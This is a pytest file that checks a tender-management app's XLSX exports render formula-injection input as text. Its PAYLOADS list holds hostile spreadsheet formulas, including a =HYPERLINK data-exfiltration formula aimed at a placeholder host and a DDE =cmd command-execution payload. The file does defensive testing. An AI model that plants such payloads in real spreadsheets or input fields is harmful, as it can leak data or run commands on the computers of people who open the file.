"""Spreadsheet formula injection: text typed by people (clause titles, vendor names, answers,
justifications) that starts with = + - @ must reach the XLSX files as text, never as a formula
that Excel or LibreOffice would evaluate (=HYPERLINK exfiltration, DDE =cmd|…)."""

import io

import pytest
from openpyxl import load_workbook

from documents.rendering.xlsx import render_questionnaire_xlsx
from scoring import services as scoring
from scoring.report.builders import report_sectioned
from scoring.report.data import report_document
from scoring.report.writers import render_xlsx
from tenders.selectors import tender_document

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://127.0.0.1:9/?d="&A1,"Cliquez")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3"]


def formulas(xlsx):
    workbook = load_workbook(io.BytesIO(xlsx))
    return [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" and any(p[:6] in str(cell.value) for p in PAYLOADS)
    ]


def test_the_answer_form_writes_hostile_clause_text_as_text(dataset_a):
    from tenders import services as tenders

    from ..factories import make_clause

    clause = make_clause(dataset_a.library, key="formule", title=PAYLOADS[0], question=PAYLOADS[1])
    tender = tenders.tender_create(
        user=dataset_a.admin, organization=dataset_a.organization, reference=PAYLOADS[4], title=PAYLOADS[2]
    )
    tenders.tender_clause_add(user=dataset_a.admin, tender=tender, clause=clause, parameters={})
    assert formulas(render_questionnaire_xlsx(tender_document(tender))) == []


def test_the_evaluation_report_writes_hostile_vendor_text_as_text(dataset_a):
    bid = scoring.bid_create(user=dataset_a.admin, tender=dataset_a.tender, vendor=PAYLOADS[0], price=90000)
    scoring.answer_set(user=dataset_a.admin, bid=bid, criterion=dataset_a.criterion, text=PAYLOADS[1], compliant=True)
    scoring.score_set(user=dataset_a.evaluator, bid=bid, criterion=dataset_a.criterion, value=2, comment=PAYLOADS[2])
    scoring.consensus_set(
        user=dataset_a.admin, bid=bid, criterion=dataset_a.criterion, value=2, justification=PAYLOADS[3]
    )
    assert formulas(render_xlsx(report_sectioned(report_document(dataset_a.tender)))) == []
